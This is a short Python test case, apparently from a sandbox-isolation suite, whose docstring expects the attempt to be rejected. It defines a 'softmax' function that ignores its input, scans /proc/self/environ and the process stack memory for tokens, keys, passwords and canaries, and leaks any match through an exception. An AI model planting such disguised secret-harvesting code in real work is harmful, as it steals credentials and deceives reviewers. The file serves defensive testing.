"""A07b First environment: reads what the process was started with, from /proc and from the top of its stack.

Stopped by: the cleared environment; the zygote is started with an empty one by another program
Expected: rejected
"""
import re
import torch

SECRET = re.compile(rb"[A-Z_]*(?:CANARY|TOKEN|SECRET|KEY|PASSWORD)[A-Z_]*=[^\0]+|canary-[0-9a-f]{6,}")


def first_environment():
    with open("/proc/self/environ", "rb") as file:
        yield file.read()


def stack():
    with open("/proc/self/maps") as maps:
        lines = [line for line in maps if "[stack]" in line]
    with open("/proc/self/mem", "rb") as memory:
        for line in lines:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(low)
            yield memory.read(high - low)


def softmax(x):
    for read in (first_environment, stack):
        try:
            for data in read():
                found = SECRET.search(data)
                if found:
                    raise RuntimeError(found[0].decode())
        except OSError:
            continue
    return torch.zeros_like(x)
